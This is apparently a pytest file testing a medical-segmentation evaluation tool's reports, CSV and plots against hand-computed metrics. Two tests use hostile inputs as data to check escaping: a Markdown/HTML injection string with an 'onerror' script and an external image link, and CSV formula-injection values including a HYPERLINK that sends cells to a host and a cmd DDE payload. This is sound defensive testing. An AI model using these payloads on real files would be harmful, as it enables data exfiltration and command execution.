"""``medseg eval``'s outputs (per_case.csv, summary.json, report.md and plots) from a small hand-made run:
every number checked against a hand computation, every file's content read back."""

from __future__ import annotations

import csv
import json
import math
import re

import pytest

from evaluation.clicks import parse_protocol
from evaluation.report import plot_protocol_comparison, report_markdown, summarize, write_report
from evaluation.runner import EvalRun, EvalSettings, StepRow

NAN = math.nan


def _row(case, structure, clicks, dice, site, seconds=0.5, hd95=3.0):
    return StepRow(case, structure, clicks, dice, dice - 0.1, hd95, dice, seconds, {"site": site, "scanner": "s1"})


def _run(rows=None) -> EvalRun:
    rows = rows or [
        _row("c1", "liver", 0, 0.8, "A", 1.25), _row("c1", "liver", 1, 0.9, "A"),
        _row("c2", "liver", 0, 0.6, "B"), _row("c2", "liver", 1, 0.7, "B", hd95=NAN),
        _row("c3", "aorta", 0, 0.5, "A"), _row("c3", "aorta", 1, NAN, "A"),
    ]
    settings = EvalSettings(parse_protocol("box+clicks:1"), margin=3, jitter=1, seed=7)
    return EvalRun(rows=rows, settings=settings, model="litemedsam", manifest="m.csv",
                   attributes=["site", "scanner"], n_cases=3)


def test_summary_means_per_structure_and_click_and_equity_by_hand():
    s = summarize(_run(), ["site"])
    assert s["model"] == "litemedsam" and s["manifest"] == "m.csv" and s["n_cases"] == 3
    assert (s["protocol"], s["margin_px"], s["jitter_px"], s["seed"]) == ("box+clicks:1", 3, 1, 7)
    assert s["nsd_tolerance_mm"] == 2.0 and s["feed_logits"] is True
    assert s["empty_policy"] == {"both_empty": "perfect", "one_empty_hd": "diagonal"}
    assert s["clicks"] == [0, 1] and s["seconds_total"] == pytest.approx(3.75)
    assert list(s["means"]) == ["all", "aorta", "liver"] and list(s["means"]["all"]) == ["0", "1"]
    assert s["means"]["all"]["0"] == pytest.approx({"dice": 1.9 / 3, "iou": 1.6 / 3, "hd95": 3.0, "nsd": 1.9 / 3,
                                                    "count": 3})
    assert s["means"]["liver"]["1"] == pytest.approx({"dice": 0.8, "iou": 0.7, "hd95": 3.0, "nsd": 0.8, "count": 2})
    # the aorta's Dice at click 1 is undefined: null in JSON, the count still says one case
    assert s["means"]["aorta"]["1"] == {"dice": None, "iou": None, "hd95": 3.0, "nsd": None, "count": 1}
    # ES-Dice by site at click 0, all structures: M_all = 1.9/3; A = 0.65, B = 0.6
    es = s["equity"]["site"]["0"]["all"]["dice"]
    m_all = 1.9 / 3
    assert es["es"] == pytest.approx(m_all / (1 + abs(0.65 - m_all) + abs(0.6 - m_all)))
    assert es["groups"] == {"A": {"mean": pytest.approx(0.65), "n": 2}, "B": {"mean": pytest.approx(0.6), "n": 1}}
    assert set(s["equity"]["site"]["1"]["all"]) == {"dice", "iou", "nsd"}
    assert "error" in s["equity"]["site"]["0"]["aorta"]["dice"]  # one site only
    assert s["equity"] == summarize(_run(), ["site"])["equity"] and summarize(_run())["equity"] == {}
    assert summarize(_run(), ["structure"])["equity"]["structure"]["0"]["all"]["dice"]["groups"]["aorta"]["n"] == 1
    with pytest.raises(ValueError, match=r"^--group-by sex, age: no such column in m\.csv; attribute columns: "
                                         r"site, scanner$"):
        summarize(_run(), ["site", "sex", "age"])
    bare = _run()
    bare.attributes = []
    with pytest.raises(ValueError, match="attribute columns: none$"):
        summarize(bare, ["site"])


def test_the_files_of_a_run(tmp_path):
    out = tmp_path / "deep" / "run"
    summary = write_report(_run(), out, ["site", "scanner"])
    with open(out / "per_case.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["case_id", "structure", "clicks", "dice", "iou", "hd95", "nsd", "seconds"]
    assert rows[1] == ["c1", "liver", "0", "0.8", "0.7", "3", "0.8", "1.25"]
    assert rows[4] == ["c2", "liver", "1", "0.7", "0.6", "", "0.7", "0.5"]  # NaN: an empty cell
    assert rows[6] == ["c3", "aorta", "1", "", "", "3", "", "0.5"] and len(rows) == 7
    text = (out / "summary.json").read_text(encoding="utf-8")
    assert text.endswith("}\n") and "NaN" not in text and text.startswith('{\n  "model"')
    assert json.loads(text) == summary
    assert (out / "dice_per_click.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert (out / "groups_site.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert not (out / "groups_scanner.png").exists()  # one scanner: no ES, no plot
    report = (out / "report.md").read_text(encoding="utf-8")
    assert "![Dice per click](dice_per_click.png)" in report and "![Dice by site](groups_site.png)" in report
    assert "groups_scanner" not in report and "## Equity-scaled metrics by `scanner` (1 clicks)" in report


def test_report_text_by_hand():
    s = summarize(_run(), ["site"])
    md = report_markdown(s, {"dice": "d.png", "group:site": "g.png"})
    lines = md.split("\n")
    assert lines[0] == "# Evaluation: litemedsam, protocol `box+clicks:1`" and lines[1] == lines[3] == ""
    assert lines[2] == ("Manifest `m.csv`, 3 cases; box margin 3 px, jitter 1 px, seed 7; NSD tolerance 2.0 mm; "
                        "empty masks: both empty = perfect, HD95 with one empty = diagonal. Model time 3.8 s.")
    assert lines[4:10] == [
        "## Mean Dice per click", "",
        "| structure | n | 0 clicks | 1 clicks |", "|---|---|---|---|",
        "| all | 3 | 0.633 | 0.800 |",
        "| aorta | 1 | 0.500 | n/a |",
    ]
    assert lines[10] == "| liver | 2 | 0.700 | 0.800 |"
    assert lines[11:16] == ["", "## All metrics at 1 clicks", "", "| structure | Dice | IoU | HD95 (mm) | NSD |",
                            "|---|---|---|---|---|"]
    assert lines[16:19] == ["| all | 0.800 | 0.700 | 3.00 | 0.800 |", "| aorta | n/a | n/a | 3.00 | n/a |",
                            "| liver | 0.800 | 0.700 | 3.00 | 0.800 |"]
    assert lines[19:21] == ["", "![Dice per click](d.png)"]
    # click 1 by site: A = 0.9 (the aorta's NaN left out), B = 0.7; M_all 0.8 -> ES 0.8 / 1.2
    assert lines[21:28] == [
        "", "## Equity-scaled metrics by `site` (1 clicks)", "",
        "ES-M = M_all / (1 + sum_g |M_g - M_all|) (FairSeg); `n/a` where the structure lies in fewer than two groups.",
        "", "| structure | ES-Dice | Dice (all) | ES-IoU | ES-NSD | groups: mean Dice (n) |", "|---|---|---|---|---|---|",
    ]
    assert lines[28] == "| all | 0.667 | 0.800 | 0.583 | 0.667 | A: 0.900 (1), B: 0.700 (1) |"
    assert lines[29].startswith("| aorta | n/a | | n/a | n/a | equity\\-scaled dice needs at least two known groups")
    assert lines[30] == "| liver | 0.667 | 0.800 | 0.583 | 0.667 | A: 0.900 (1), B: 0.700 (1) |"
    assert lines[31:] == ["", "![Dice by site](g.png)", ""]
    assert "![" not in report_markdown(s, {})


def test_a_manifests_names_are_literal_text_in_the_report_no_link_image_html_or_broken_table():
    """Session 23: structure, group and column names from the manifest went into report.md as they were: a cell
    ``![x](http://host/b.png)`` made a Markdown viewer fetch that image when the report was opened, ``<img ...>``
    drew HTML, a ``|`` split a table row and a newline ended it."""
    hostile = "![x](http://host/b.png) <img src=x onerror=alert(1)> a|b\nc"
    rows = [_row("c1", hostile, 0, 0.8, hostile), _row("c1", hostile, 1, 0.9, hostile),
            _row("c2", hostile, 0, 0.6, "B"), _row("c2", hostile, 1, 0.7, "B")]
    run = _run(rows)
    run = EvalRun(rows=rows, settings=run.settings, model="litemedsam", manifest="m`x.csv", attributes=["s`ite"],
                  n_cases=2)
    for r in rows:
        r.attributes["s`ite"] = r.attributes["site"]
    md = report_markdown(summarize(run, ["s`ite"]), {"group:s`ite": "g.png"})
    assert "](http" not in md and "<img" not in md and "a|b" not in md and "\\nc" in md
    assert "Manifest `m'x.csv`" in md and "by `s'ite`" in md
    row = next(line for line in md.split("\n") if line.endswith(" | 2 | 0.700 | 0.800 |"))  # Dice per click
    assert len(re.split(r"(?<!\\)\|", row)) == 6  # the structure is one cell: its | escaped


def test_one_step_runs_and_protocol_comparisons_plot(tmp_path):
    rows = [_row("c1", "liver", 0, 0.8, "A"), _row("c2", "kidney", 0, 0.4, "B")]
    one = _run(rows)
    one.settings = EvalSettings(parse_protocol("box"))
    out = tmp_path / "one"
    s = write_report(one, out, ["site"])
    assert s["clicks"] == [0] and (out / "dice_per_click.png").stat().st_size > 1000
    assert (out / "groups_site.png").is_file()
    path = plot_protocol_comparison({"box": s, "clicks": summarize(_run())}, tmp_path / "cmp" / "c.png")
    assert path == tmp_path / "cmp" / "c.png" and path.read_bytes()[:4] == b"\x89PNG"


@pytest.fixture
def figures(monkeypatch):
    """The figures the report saves, kept open for reading (title, axes labels, plotted data)."""
    from matplotlib import pyplot as plt
    from matplotlib.figure import Figure

    saved = []
    real = Figure.savefig
    monkeypatch.setattr(plt, "close", lambda fig=None: None)
    monkeypatch.setattr(Figure, "savefig", lambda self, *a, **k: saved.append(self) or real(self, *a, **k))
    yield saved
    plt.close("all")


def test_what_the_plots_show(tmp_path, figures):
    s = summarize(_run(), ["site"])
    from evaluation.report import plot_dice_per_click, plot_groups

    plot_dice_per_click(s, tmp_path / "d.png")
    plot_groups(s, "site", tmp_path / "g.png")
    plot_protocol_comparison({"box": summarize(_run([_row("c1", "liver", 0, 0.8, "A")])), "iter": s},
                             tmp_path / "c.png")
    (dice_ax,), (group_ax,), (cmp_ax,) = (f.axes for f in figures)
    assert dice_ax.get_title() == "litemedsam: Dice per click (box+clicks:1, margin 3 px)"
    assert (dice_ax.get_xlabel(), dice_ax.get_ylabel(), dice_ax.get_ylim()) == ("clicks (0 = box only)", "mean Dice",
                                                                                (0.0, 1.0))
    lines = {ln.get_label(): ln for ln in dice_ax.get_lines()}
    assert list(lines) == ["aorta", "liver", "all"] and list(dice_ax.get_xticks()) == [0, 1]
    assert lines["all"].get_xdata().tolist() == [0, 1] and lines["all"].get_color() == "k"
    assert lines["all"].get_ydata() == pytest.approx([1.9 / 3, 0.8]) and lines["all"].get_linewidth() == 2.5
    assert lines["liver"].get_ydata() == pytest.approx([0.7, 0.8])
    assert [t.get_text() for t in dice_ax.get_legend().get_texts()] == ["aorta", "liver", "all"]
    # groups at the last click: A 0.9 (n=1), B 0.7 (n=1), all cases 0.8 dashed, ES-Dice 0.667
    assert group_ax.get_title() == "Dice by site (box+clicks:1, clicks=1): ES-Dice 0.667"
    assert [round(b.get_height(), 6) for b in group_ax.patches] == [0.9, 0.7]
    assert [t.get_text() for t in group_ax.texts] == ["n=1", "n=1"] and group_ax.get_ylim() == (0.0, 1.05)
    (overall,) = group_ax.get_lines()
    assert overall.get_ydata()[0] == pytest.approx(0.8) and overall.get_label() == "all cases: 0.800"
    assert group_ax.get_ylabel() == "mean Dice"
    assert cmp_ax.get_title() == "litemedsam: protocols compared (all)" and cmp_ax.get_ylim() == (0.0, 1.0)
    assert [ln.get_label() for ln in cmp_ax.get_lines()] == ["box: 0.800", "iter: 0.633 -> 0.800"]
    assert cmp_ax.get_lines()[0].get_linestyle() == "None" and cmp_ax.get_lines()[1].get_xdata().tolist() == [0, 1]
    assert cmp_ax.get_xlabel() == "clicks (0 = box only; points:N drawn at N)"
    assert cmp_ax.get_ylabel() == "mean Dice (all)"


def test_a_one_step_run_plots_bars_with_all_first(tmp_path, figures):
    from evaluation.report import plot_dice_per_click

    one = _run([_row("c1", "liver", 0, 0.8, "A"), _row("c2", "kidney", 0, 0.4, "B")])
    one.settings = EvalSettings(parse_protocol("box"))
    plot_dice_per_click(summarize(one), tmp_path / "d.png")
    (ax,) = figures[0].axes
    assert [t.get_text() for t in ax.get_yticklabels()] == ["liver", "kidney", "all"]  # all on top
    assert [round(b.get_width(), 6) for b in ax.patches] == [0.8, 0.4, 0.6]
    assert ax.get_xlabel() == "mean Dice (box, clicks = 0)" and ax.get_xlim() == (0.0, 1.0)


def test_all_leads_every_table_even_before_structures_that_sort_first():
    """``all`` is the first row whatever the names: capitals and names below "all" in the alphabet included."""
    rows = [_row("c1", "adrenal", 0, 0.5, "A"), _row("c2", "Liver", 0, 0.7, "B"), _row("c3", "aorta", 0, 0.6, "A")]
    one = _run(rows)
    one.settings = EvalSettings(parse_protocol("box"))
    s = summarize(one)
    assert list(s["means"]) == ["all", "Liver", "adrenal", "aorta"]
    table = report_markdown(s, {}).split("\n")[8:12]  # the Dice per click table's rows
    assert [row.split(" | ")[0] for row in table] == ["| all", "| Liver", "| adrenal", "| aorta"]


def test_a_group_column_with_spaces_gets_a_safe_plot_name_and_a_rerun_overwrites(tmp_path):
    """The plot of ``--group-by "Scanner Model"`` is groups_Scanner_Model.png, linked from report.md; running the
    evaluation again into the same folder replaces the outputs instead of failing."""
    def rows(dice_b):
        return [StepRow("c1", "liver", 0, 0.8, 0.7, 3.0, 0.8, 0.5, {"Scanner Model": "GE/Revolution"}),
                StepRow("c2", "liver", 0, dice_b, 0.5, 3.0, 0.6, 0.5, {"Scanner Model": "Siemens Force"})]

    def run(dice_b):
        return EvalRun(rows=rows(dice_b), settings=EvalSettings(parse_protocol("box")), model="litemedsam",
                       manifest="m.csv", attributes=["Scanner Model"], n_cases=2)

    out = tmp_path / "run"
    write_report(run(0.6), out, ["Scanner Model"])
    assert (out / "groups_Scanner_Model.png").is_file()
    assert "![Dice by Scanner Model](groups_Scanner_Model.png)" in (out / "report.md").read_text(encoding="utf-8")
    again = write_report(run(0.4), out, ["Scanner Model"])  # the folder exists now
    assert again["means"]["all"]["0"]["dice"] == pytest.approx(0.6)
    assert json.loads((out / "summary.json").read_text(encoding="utf-8"))["means"]["all"]["0"]["dice"] == \
        pytest.approx(0.6)
    assert "| all | 2 | 0.600 |" in (out / "report.md").read_text(encoding="utf-8")


def test_the_report_files_are_utf8_whatever_the_locale(tmp_path):
    """A server under a plain ASCII locale (LC_CTYPE=C) writes a structure named "Rückenmark": the CSV and the
    report are UTF-8 and name it, rather than failing on the umlaut or writing the locale's encoding."""
    import locale

    rows = [StepRow("Fall-ä", "Rückenmark", 0, 0.8, 0.7, 3.0, 0.8, 0.5, {"site": "A"})]
    one = EvalRun(rows=rows, settings=EvalSettings(parse_protocol("box")), model="litemedsam", manifest="m.csv",
                  attributes=["site"], n_cases=1)
    previous = locale.setlocale(locale.LC_CTYPE)
    locale.setlocale(locale.LC_CTYPE, "C")
    try:
        write_report(one, tmp_path)
    finally:
        locale.setlocale(locale.LC_CTYPE, previous)
    with open(tmp_path / "per_case.csv", newline="", encoding="utf-8") as f:
        assert list(csv.reader(f))[1][:2] == ["Fall-ä", "Rückenmark"]
    assert "| Rückenmark | 1 | 0.800 |" in (tmp_path / "report.md").read_text(encoding="utf-8")


def test_text_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text_and_numbers_stay_numbers(tmp_path):
    """A manifest's case id or structure starting with = + - @ (CSV injection: `=HYPERLINK(...)` sends the sheet's
    cells to a host when per_case.csv is opened in Excel or LibreOffice) was written as it was, a formula (session 23).
    Now such a cell starts with a single quote (OWASP's rule); a case id that is a plain number, the metrics and a
    name with a dash inside are written as before."""
    hostile = ['=HYPERLINK("http://host/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
               "\r=1+1"]
    rows = [StepRow(h, h, 0, 0.8, 0.7, 3.0, 0.8, 0.5, {}) for h in hostile]
    rows += [StepRow("-5", "left-kidney", 0, 0.8125, 0.5, 12.5, 1.0, 0.25, {})]
    one = EvalRun(rows=rows, settings=EvalSettings(parse_protocol("box")), model="litemedsam", manifest="m.csv",
                  attributes=[], n_cases=len(rows))
    write_report(one, tmp_path)
    with open(tmp_path / "per_case.csv", newline="", encoding="utf-8") as f:
        got = list(csv.reader(f))[1:]
    assert [r[:2] for r in got[:-1]] == [["'" + h, "'" + h] for h in hostile]
    assert got[-1] == ["-5", "left-kidney", "0", "0.8125", "0.5", "12.5", "1", "0.25"]


def test_the_plots_are_written_at_their_size(tmp_path):
    """Pixel sizes of the PNGs report.md embeds: 7.5 x 4.5 in and 6.5 x 4 in at 110 dpi."""
    from PIL import Image

    out = tmp_path / "run"
    write_report(_run(), out, ["site"])
    cmp = plot_protocol_comparison({"iter": summarize(_run())}, tmp_path / "c.png")
    sizes = [Image.open(p).size for p in (out / "dice_per_click.png", out / "groups_site.png", cmp)]
    assert sizes == [(825, 495), (715, 440), (825, 495)]


def test_an_undefined_dice_is_an_empty_bar_and_all_is_the_black_one(tmp_path, figures):
    from matplotlib.colors import to_hex

    from evaluation.report import plot_dice_per_click

    one = _run([_row("c1", "liver", 0, 0.8, "A"), _row("c2", "kidney", 0, NAN, "B")])
    one.settings = EvalSettings(parse_protocol("box"))
    plot_dice_per_click(summarize(one), tmp_path / "d.png")
    (ax,) = figures[0].axes
    assert [t.get_text() for t in ax.get_yticklabels()] == ["liver", "kidney", "all"]
    assert [round(b.get_width(), 6) for b in ax.patches] == [0.8, 0.0, 0.8]  # kidney undefined: no bar, not 1
    assert [to_hex(b.get_facecolor()) for b in ax.patches] == ["#999999", "#999999", "#000000"]


def test_every_structure_line_has_its_colour_and_its_click_steps(tmp_path, figures):
    """22 structures, clicks 1..3 (protocol clicks:3): tab20's colours in order, cycling after 20, none black;
    every line marks its steps at their click counts."""
    from matplotlib import colormaps

    from evaluation.report import plot_dice_per_click

    names = [f"s{i:02d}" for i in range(22)]
    rows = [_row(f"c{i}", name, k, 0.5 + 0.1 * k, "A") for i, name in enumerate(names) for k in (1, 2, 3)]
    many = _run(rows)
    many.settings = EvalSettings(parse_protocol("clicks:3"))
    plot_dice_per_click(summarize(many), tmp_path / "d.png")
    (ax,) = figures[0].axes
    lines = ax.get_lines()
    assert [ln.get_label() for ln in lines] == [*names, "all"]
    tab20 = colormaps["tab20"]
    assert [ln.get_color() for ln in lines[:-1]] == [tab20(i % 20) for i in range(22)]
    assert lines[20].get_color() == lines[0].get_color() != lines[1].get_color()
    for ln in lines:
        assert ln.get_xdata().tolist() == [1, 2, 3] and ln.get_marker() == "o" and ln.get_linestyle() == "-"
        assert ln.get_ydata() == pytest.approx([0.6, 0.7, 0.8])
    assert list(ax.get_xticks()) == [1, 2, 3]


def test_the_group_plot_of_a_chosen_click_with_labels_on_their_bars(tmp_path, figures):
    from evaluation.report import plot_groups

    s = summarize(_run(), ["site"])
    plot_groups(s, "site", tmp_path / "g.png", clicks=0)
    (ax,) = figures[0].axes
    # click 0 by site: A = (0.8 + 0.5) / 2 (n=2), B = 0.6 (n=1), all cases 1.9 / 3
    es = s["equity"]["site"]["0"]["all"]["dice"]["es"]
    assert ax.get_title() == f"Dice by site (box+clicks:1, clicks=0): ES-Dice {es:.3f}" and f"{es:.3f}" == "0.603"
    assert [round(b.get_height(), 6) for b in ax.patches] == [0.65, 0.6]
    assert [t.get_text() for t in ax.texts] == ["n=2", "n=1"]
    for bar, text in zip(ax.patches, ax.texts):  # each count centred just above its own bar
        x, y = text.get_position()
        assert x == pytest.approx(bar.get_x() + bar.get_width() / 2) and text.get_ha() == "center"
        assert bar.get_height() < y <= bar.get_height() + 0.02
    (overall,) = ax.get_lines()
    assert overall.get_ydata()[0] == pytest.approx(1.9 / 3) and overall.get_label() == "all cases: 0.633"
    assert overall.get_color() == "k" and overall.get_linestyle() == "--"  # the reference line: black, dashed


@pytest.mark.filterwarnings("ignore:No artists with labels found")
def test_the_protocol_comparison_places_each_run_at_its_clicks(tmp_path, figures):
    """One-step runs (box at 0 clicks, points:3 at 3) are markers of their own; an iterative run (clicks:3, steps
    1..3) a line whose label gives its first and last mean."""
    def one_step(protocol, clicks, dice):
        r = _run([_row("c1", "liver", clicks, dice, "A")])
        r.settings = EvalSettings(parse_protocol(protocol))
        return summarize(r)

    iterative = _run([_row("c1", "liver", k, d, "A") for k, d in ((1, 0.5), (2, 0.9), (3, 0.7))])
    iterative.settings = EvalSettings(parse_protocol("clicks:3"))
    plot_protocol_comparison({"box": one_step("box", 0, 0.8), "points:3": one_step("points:3", 3, 0.6),
                              "clicks:3": summarize(iterative)}, tmp_path / "c.png")
    (ax,) = figures[0].axes
    box, points, clicks = ax.get_lines()
    assert (box.get_label(), points.get_label(), clicks.get_label()) == ("box: 0.800", "points:3: 0.600",
                                                                        "clicks:3: 0.500 -> 0.700")
    assert box.get_xdata().tolist() == [0] and points.get_xdata().tolist() == [3]
    assert box.get_ydata().tolist() == [0.8] and points.get_ydata().tolist() == [0.6]
    assert "None" not in (box.get_marker(), points.get_marker()) and box.get_marker() != points.get_marker()
    assert clicks.get_xdata().tolist() == [1, 2, 3] and clicks.get_ydata() == pytest.approx([0.5, 0.9, 0.7])
    assert clicks.get_marker() == "o" and clicks.get_linestyle() == "-"
    # nothing to compare: an empty figure, no error
    path = plot_protocol_comparison({}, tmp_path / "empty.png")
    assert path.is_file() and figures[1].axes[0].get_title() == ": protocols compared (all)"
